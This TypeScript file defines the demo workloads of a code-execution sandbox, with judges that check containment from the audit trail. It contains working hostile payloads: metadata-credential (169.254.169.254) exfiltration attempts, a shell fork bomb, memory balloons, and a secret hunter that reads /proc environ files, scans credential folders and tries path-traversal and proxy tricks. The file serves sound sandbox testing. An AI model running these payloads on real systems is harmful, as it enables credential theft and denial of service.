import type { ActivityEvent, Run, RunCreate, RuntimeClass } from "@l1fe/shells";
import type { DemoBinding } from "./demo-binding.js";

/**
 * The workloads of `shells demo`: hostile code that tries to do damage, and one clean run, each
 * with the run it launches on a runtime class and how its outcome is judged. Judging reads what the
 * control plane recorded — the run's kill reason and its audit trail (egress decisions) — and what
 * the code itself reported, and never takes the code's word alone for containment.
 */

/** What one demo run left behind: the run as it ended, its audit trail and all it printed. */
export interface DemoEvidence {
  run: Run;
  audit: readonly ActivityEvent[];
  /** Every stdout and stderr frame of the run, in order (not only the tail the record keeps). */
  output: string;
}

/** What the demo lends its workloads, and what the class they run on offers. */
export interface DemoContext {
  /** The demo's binding, when this server could be given one. */
  binding: DemoBinding | null;
  /** The class offers `internet` (a route out through the egress proxy). */
  internet: boolean;
  /** Shells of the class can be granted service bindings. */
  bindings: boolean;
}

/** The demo's judgement of one run. */
export interface DemoVerdict {
  /** Hostile workloads: it was contained. The clean run: it returned its structured result. */
  ok: boolean;
  /** How: the denied egress decisions, the kill reason, the wall it hit, the result. */
  how: string;
}

/** A workload as one runtime class runs it. */
export interface DemoVariant {
  spec: RunCreate;
  judge(evidence: DemoEvidence): DemoVerdict;
}

/** One row kind of the demo's table. */
export interface DemoWorkload {
  /** Stable name (`--json`, tests). */
  id: string;
  /** What the table calls it. */
  title: string;
  kind: "hostile" | "clean";
  /** Runs only with a binding lent (the demo skips it, saying why, when there is none). */
  needsBinding?: boolean;
  /**
   * The run on a class. `wasm` runs interpreters with no processes and only `fetch` for a network,
   * so it gets code that tries the same harm with what an interpreter there has; the other classes
   * run POSIX sandboxes with python.
   */
  variant(runtime: RuntimeClass, context: DemoContext): DemoVariant;
}

/** Wall clock of each demo run: a contained workload ends in seconds; one that is not, here. */
const RUN_TIMEOUT_MS = 60_000;

const METADATA_IP = "169.254.169.254";

/** Python that tries the metadata service and private addresses, through the proxy and around it. */
const EXFILTRATION_PYTHON = `import socket, urllib.error, urllib.request

def through_proxy(url):
    try:
        with urllib.request.urlopen(url, timeout=10) as response:
            return f"reached: HTTP {response.status}"
    except urllib.error.HTTPError as e:
        return f"refused: HTTP {e.code}"
    except OSError as e:
        return f"failed: {e}"

def raw_socket(address, port):
    s = socket.socket()
    s.settimeout(5)
    try:
        s.connect((address, port))
        s.sendall(f"GET /latest/meta-data/ HTTP/1.0\\r\\nHost: {address}\\r\\n\\r\\n".encode())
        status = s.recv(100).split(b"\\r\\n")[0].decode(errors="replace")
        return ("reached: " if " 200 " in status else "refused: ") + (status or "closed")
    except OSError as e:
        return f"failed: {e}"

attempts = {
    "metadata credentials via the proxy": through_proxy("http://${METADATA_IP}/latest/meta-data/iam/security-credentials/"),
    "private address via the proxy": through_proxy("http://10.0.0.1/"),
    "metadata by raw socket": raw_socket("${METADATA_IP}", 80),
    "private address by raw socket": raw_socket("192.168.0.1", 22),
}
for target, outcome in attempts.items():
    print(f"{target}: {outcome}")
shells.result(attempts)
`;

/**
 * JavaScript (QuickJS) that looks for any way to open a connection, then asks `fetch` (the wasm
 * class's only way out, through the egress proxy where the shell has `internet`) for the metadata
 * service and a private address.
 */
const EXFILTRATION_JS = `const attempts = {};
for (const name of ["net", "http", "dgram"]) {
  try {
    require(name).connect?.(80, "${METADATA_IP}");
    attempts[name] = "reached: module loaded";
  } catch (e) {
    attempts[name] = "refused: " + e.message;
  }
}
for (const name of ["XMLHttpRequest", "WebSocket"])
  attempts[name] = typeof globalThis[name] === "undefined" ? "refused: absent" : "reached: present";
const targets = {
  "metadata credentials via fetch": "http://${METADATA_IP}/latest/meta-data/iam/security-credentials/",
  "private address via fetch": "http://10.0.0.1/",
};
Promise.all(
  Object.entries(targets).map(([name, url]) =>
    typeof fetch === "undefined"
      ? (attempts[name] = "refused: no fetch")
      : fetch(url).then(
          (r) => (attempts[name] = (r.ok ? "reached: HTTP " : "refused: HTTP ") + r.status),
          (e) => (attempts[name] = "refused: " + e.message),
        ),
  ),
).then(() => {
  console.log(JSON.stringify(attempts));
  shells.result(attempts);
});
`;

/** Attempts the workload reports as having got through. */
function reached(result: unknown): string[] {
  if (typeof result !== "object" || result === null) return [];
  return Object.entries(result)
    .filter(([, outcome]) => typeof outcome !== "string" || outcome.startsWith("reached"))
    .map(([target]) => target);
}

function ofAction(audit: readonly ActivityEvent[], action: string): ActivityEvent[] {
  return audit.filter((event) => event.action === action);
}

/** `host:port reason` of each distinct denied egress decision. */
function deniedDestinations(audit: readonly ActivityEvent[]): string[] {
  const seen = new Set<string>();
  for (const event of ofAction(audit, "egress.denied")) {
    const { host, port, reason } = event.details as {
      host?: unknown;
      port?: unknown;
      reason?: unknown;
    };
    seen.add(`${String(host)}:${String(port)} ${String(reason)}`);
  }
  return [...seen];
}

/** Judges a run that reports a map of attempts: contained when none got through and no egress was allowed. */
function judgeExfiltration({ run, audit }: DemoEvidence, sealedHow: string): DemoVerdict {
  const allowed = ofAction(audit, "egress.allowed").map((e) => String(e.details["host"]));
  const through = reached(run.result);
  if (run.result === null)
    return { ok: false, how: `reported nothing (${describeEnd(run)}): cannot tell` };
  if (allowed.length > 0 || through.length > 0)
    return {
      ok: false,
      how: `got through: ${[...allowed.map((h) => `egress.allowed ${h}`), ...through].join(", ")}`,
    };
  const denied = deniedDestinations(audit);
  return { ok: true, how: denied.length > 0 ? `egress.denied ${denied.join(", ")}` : sealedHow };
}

/** How a run ended, in a few words. */
function describeEnd(run: Run): string {
  if (run.killReason) return `killed: ${run.killReason}`;
  if (run.error) return `error: ${run.error}`;
  return `${run.status}, exit code ${run.exitCode ?? "-"}`;
}

/** Judges a run the sandbox must end with `reason`. */
function killedWith(reason: "pids" | "oom", limit: string) {
  return ({ run }: DemoEvidence): DemoVerdict =>
    run.killReason === reason
      ? { ok: true, how: `killed: ${reason} (${limit})` }
      : { ok: false, how: `not stopped by the ${limit}: ${describeEnd(run)}` };
}

const exfiltration: DemoWorkload = {
  id: "metadata-exfiltration",
  title: `exfiltrate via ${METADATA_IP} and a private address`,
  kind: "hostile",
  variant: (runtime, { internet }) =>
    runtime === "wasm"
      ? {
          spec: {
            language: "node",
            runtime,
            network: internet ? "internet" : "sealed",
            code: EXFILTRATION_JS,
            timeoutMs: RUN_TIMEOUT_MS,
          },
          judge: (evidence) =>
            judgeExfiltration(
              evidence,
              internet ? "no route out" : "no network: wasm has no socket API (sealed)",
            ),
        }
      : {
          // `internet` with the default policy (public addresses only), so every attempt meets
          // the egress proxy and leaves a decision in the audit trail; on a class that offers no
          // route out, the best it offers.
          spec: {
            language: "python",
            runtime,
            network: internet ? "internet" : "sealed",
            code: EXFILTRATION_PYTHON,
            timeoutMs: RUN_TIMEOUT_MS,
          },
          judge: (evidence) =>
            judgeExfiltration(
              evidence,
              internet ? "no route out" : `no route out: ${runtime} offers no internet (sealed)`,
            ),
        },
};

const forkBomb: DemoWorkload = {
  id: "fork-bomb",
  title: "fork bomb",
  kind: "hostile",
  variant: (runtime) =>
    runtime === "wasm"
      ? {
          spec: {
            language: "node",
            runtime,
            code: `let spawned = 0;
try {
  const { spawn } = require("child_process");
  for (;;) { spawn(process.argv[0], process.argv.slice(1)); spawned += 1; }
} catch (e) {
  console.log("spawn failed: " + e.message);
  shells.result({ spawned, error: e.message });
}
`,
            timeoutMs: RUN_TIMEOUT_MS,
          },
          judge: ({ run }) => {
            const spawned = (run.result as { spawned?: unknown } | null)?.spawned;
            return spawned === 0
              ? { ok: true, how: "no processes: wasm has no child_process" }
              : { ok: false, how: `spawned ${String(spawned)} processes (${describeEnd(run)})` };
          },
        }
      : {
          spec: {
            language: "python",
            runtime,
            command: ["sh", "-c", "f(){ f|f & }; f; sleep 5"],
            timeoutMs: RUN_TIMEOUT_MS,
          },
          judge: killedWith("pids", "process limit"),
        },
};

const memoryBalloon: DemoWorkload = {
  id: "memory-balloon",
  title: "memory balloon",
  kind: "hostile",
  variant: (runtime) =>
    runtime === "wasm"
      ? {
          spec: {
            language: "node",
            runtime,
            code: `const hoard = [];
for (;;) {
  hoard.push(new Uint8Array(16 << 20).fill(120));
  if (hoard.length % 8 === 0) console.log("holding " + hoard.length * 16 + " MB");
}
`,
            timeoutMs: RUN_TIMEOUT_MS,
          },
          judge: killedWith("oom", "memory limit"),
        }
      : {
          spec: {
            language: "python",
            runtime,
            code: `hoard = []
while True:
    hoard.append(b"x" * (32 << 20))
    print(f"holding {len(hoard) * 32} MB", flush=True)
`,
            timeoutMs: RUN_TIMEOUT_MS,
          },
          judge: killedWith("oom", "memory limit"),
        },
};

/**
 * Python that hunts for its binding's secret everywhere a sandboxed process can look: the
 * environment and command line of every process it can see under `/proc` (the proxy's forwarder
 * included), the files of the places secrets are kept, and the binding itself — echo
 * endpoints, a reflected header, a gzip answer, a redirect, path tricks, its own `Authorization`,
 * methods the binding does not allow, other bindings' names, the proxy asked directly. It prints
 * every token-like string it finds and every answer it gets: if the secret reached the sandbox in
 * any of those places, it is in the output, where the demo looks for it.
 */
function huntPython(envVar: string): string {
  return `import http.client, json, os, re, socket, urllib.parse

TOKEN = re.compile(rb"[A-Za-z0-9_+/=.:-]{16,}")
base = os.environ.get("${envVar}", "")
searched = {"processes": 0, "files": 0, "binding calls": 0}

def tokens(source, data):
    found = sorted(set(t.decode() for t in TOKEN.findall(data)))
    if found:
        print(f"-- {source}: " + " ".join(found))

for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    for part in ("environ", "cmdline"):
        try:
            with open(f"/proc/{pid}/{part}", "rb") as f:
                tokens(f"/proc/{pid}/{part}", f.read().replace(b"\\0", b" "))
        except OSError:
            pass
    searched["processes"] += 1
tokens("os.environ", json.dumps(dict(os.environ)).encode())

for root in ("/workspace", "/tmp", "/root", "/home", "/etc", "/run", "/var/tmp", "/dev/shm", "/opt"):
    for folder, _, names in os.walk(root):
        for name in names:
            path = os.path.join(folder, name)
            try:
                if os.path.islink(path) or os.path.getsize(path) > (1 << 20):
                    continue
                with open(path, "rb") as f:
                    tokens(path, f.read())
                searched["files"] += 1
            except OSError:
                pass

def raw(method, target, headers=None, body=None):
    """One request to the forwarder exactly as written: no client normalises the path."""
    parsed = urllib.parse.urlsplit(base)
    conn = http.client.HTTPConnection(parsed.hostname, parsed.port, timeout=20)
    try:
        conn.putrequest(method, target, skip_host=True, skip_accept_encoding=True)
        conn.putheader("Host", parsed.netloc)
        for key, value in (headers or {}).items():
            conn.putheader(key, value)
        data = body.encode() if body else b""
        conn.putheader("Content-Length", str(len(data)))
        conn.endheaders(data)
        answer = conn.getresponse()
        text = answer.read()
        searched["binding calls"] += 1
        print(f"== {method} {target} -> {answer.status}")
        print("   headers: " + json.dumps(answer.getheaders()))
        print("   body: " + text.decode(errors="replace")[:4000])
    except OSError as e:
        print(f"== {method} {target} -> failed: {e}")
    finally:
        conn.close()

prefix = urllib.parse.urlsplit(base).path
name = prefix.rstrip("/").rsplit("/", 1)[-1]
# Without a binding URL (a class that cannot be granted one) there is no proxy to ask.
for method, target, headers, body in [] if not base else [
    ("GET", prefix + "/echo", None, None),
    ("POST", prefix + "/echo", {"Content-Type": "text/plain"}, "echo my headers back, please"),
    ("GET", prefix + "/gzip", {"Accept-Encoding": "gzip"}, None),
    ("GET", prefix + "/redirect", None, None),
    ("GET", prefix + "/echo?path=" + urllib.parse.quote(prefix), None, None),
    ("GET", prefix + "/echo", {"Authorization": "Bearer mine", "X-Forwarded-For": "1.2.3.4"}, None),
    ("GET", prefix + "/echo", {"Max-Forwards": "0", "Via": "1.1 loop"}, None),
    ("TRACE", prefix + "/echo", None, None),
    ("PUT", prefix + "/echo", None, "x"),
    ("GET", prefix + "/%2e%2e/%2e%2e/echo", None, None),
    ("GET", prefix + "/../../echo", None, None),
    ("GET", prefix + "//echo", None, None),
    ("GET", "/bindings/" + name.upper() + "/echo", None, None),
    ("GET", "/bindings/not_granted/echo", None, None),
    ("GET", "/", None, None),
    ("GET", "http://127.0.0.1/bindings/" + name + "/echo", None, None),
    ("CONNECT", "127.0.0.1:443", None, None),
]:
    raw(method, target, headers, body)

print(json.dumps(searched))
shells.result(searched)
`;
}

/** JavaScript (QuickJS) that looks for a secret in what an interpreter there can see. */
const HUNT_JS = `const seen = { env: typeof process === "undefined" ? "absent" : JSON.stringify(process.env ?? {}) };
seen.globals = Object.getOwnPropertyNames(globalThis).join(" ");
console.log(JSON.stringify(seen));
shells.result({ searched: Object.keys(seen) });
`;

/** Where in the output `secret` appears, as it is or in the encodings the proxy masks. */
function secretIn(output: string, secret: string): string | null {
  const forms: [string, string][] = [
    ["as is", secret],
    ["base64", Buffer.from(secret).toString("base64")],
    ["base64url", Buffer.from(secret).toString("base64url")],
    ["hex", Buffer.from(secret).toString("hex")],
  ];
  return forms.find(([, form]) => output.includes(form))?.[0] ?? null;
}

const secretHunt: DemoWorkload = {
  id: "binding-secret-hunt",
  title: "hunt for its binding's secret",
  kind: "hostile",
  needsBinding: true,
  variant: (runtime, { binding, bindings }) => {
    const judge = ({ run, output }: DemoEvidence): DemoVerdict => {
      if (!binding) return { ok: false, how: "no binding was lent" };
      const everything = `${output}\n${JSON.stringify(run.result)}\n${JSON.stringify(run.output)}`;
      const form = secretIn(everything, binding.secret);
      if (form) return { ok: false, how: `SECRET FOUND in the run's output (${form})` };
      if (run.result === null)
        return { ok: false, how: `reported nothing (${describeEnd(run)}): cannot tell` };
      const kb = Math.max(1, Math.round(Buffer.byteLength(output) / 1024));
      const used = bindings
        ? `the upstream got it ${binding.callsWithSecret()}×`
        : `${runtime} cannot be granted a binding`;
      return { ok: true, how: `secret not found (${kb} KB of output searched; ${used})` };
    };
    return runtime === "wasm"
      ? // wasm runs an interpreter with no processes: it looks for the secret in what it can see,
        // its binding's URL included where it is granted one.
        {
          spec: {
            language: "node",
            runtime,
            bindings: binding && bindings ? [binding.name] : [],
            code: HUNT_JS,
            timeoutMs: RUN_TIMEOUT_MS,
          },
          judge,
        }
      : {
          // Sealed: the binding URL is the only way out, so every trick goes through the proxy.
          spec: {
            language: "python",
            runtime,
            egress: { mode: "deny_all", allow: [] },
            // A class that cannot be granted the binding hunts without it, in what it can see.
            bindings: binding && bindings ? [binding.name] : [],
            code: huntPython((bindings ? binding?.envVar : null) ?? "SHELLS_BINDING_NONE_URL"),
            timeoutMs: RUN_TIMEOUT_MS,
          },
          judge,
        };
  },
};

/** The sum the clean run reports. */
const CLEAN_SUM = 5050;

/** Python of the clean run: a sum, and with a binding, one call to the bound API. */
function cleanPython(envVar: string | null): string {
  const call = envVar
    ? `with urllib.request.urlopen(os.environ["${envVar}"] + "/answer", timeout=20) as response:
    result["api"] = json.load(response)
`
    : "";
  return `import json, os, urllib.request
print("adding up 1..100")
result = {"sum": sum(range(1, 101)), "ok": True}
${call}shells.result(result)
`;
}

/** JavaScript (QuickJS) of the clean run: a sum, and with a binding, one call to the bound API. */
function cleanJs(envVar: string | null): string {
  const answer = envVar
    ? `fetch(process.env[${JSON.stringify(envVar)}] + "/answer")
  .then((response) => response.text())
  .then((text) => ({ sum, ok: true, api: JSON.parse(text) }))`
    : "Promise.resolve({ sum, ok: true })";
  return `let sum = 0;
for (let i = 1; i <= 100; i += 1) sum += i;
console.log("adding up 1..100");
${answer}.then((result) => shells.result(result));
`;
}

const cleanRun: DemoWorkload = {
  id: "clean-run",
  title: "clean run with a structured result",
  kind: "clean",
  variant: (runtime, { binding, bindings }) => {
    const bound = bindings ? binding : null;
    return {
      spec:
        runtime === "wasm"
          ? {
              language: "node",
              runtime,
              egress: { mode: "deny_all", allow: [] },
              ...(bound ? { bindings: [bound.name] } : {}),
              code: cleanJs(bound?.envVar ?? null),
              timeoutMs: RUN_TIMEOUT_MS,
            }
          : {
              language: "python",
              runtime,
              egress: { mode: "deny_all", allow: [] },
              ...(bound ? { bindings: [bound.name] } : {}),
              code: cleanPython(bound?.envVar ?? null),
              timeoutMs: RUN_TIMEOUT_MS,
            },
      judge: ({ run }) => {
        const result = run.result as { sum?: unknown; api?: { nonce?: unknown } } | null;
        const called = !bound || result?.api?.nonce === bound.nonce;
        return run.status === "succeeded" && result?.sum === CLEAN_SUM && called
          ? {
              ok: true,
              how: `succeeded, result ${JSON.stringify(run.result)}${bound ? " (bound API called)" : ""}`,
            }
          : { ok: false, how: `no result: ${describeEnd(run)}` };
      },
    };
  },
};

/** The workloads `shells demo` runs on each class, in table order. */
export const DEMO_WORKLOADS: readonly DemoWorkload[] = [
  exfiltration,
  forkBomb,
  memoryBalloon,
  secretHunt,
  cleanRun,
];
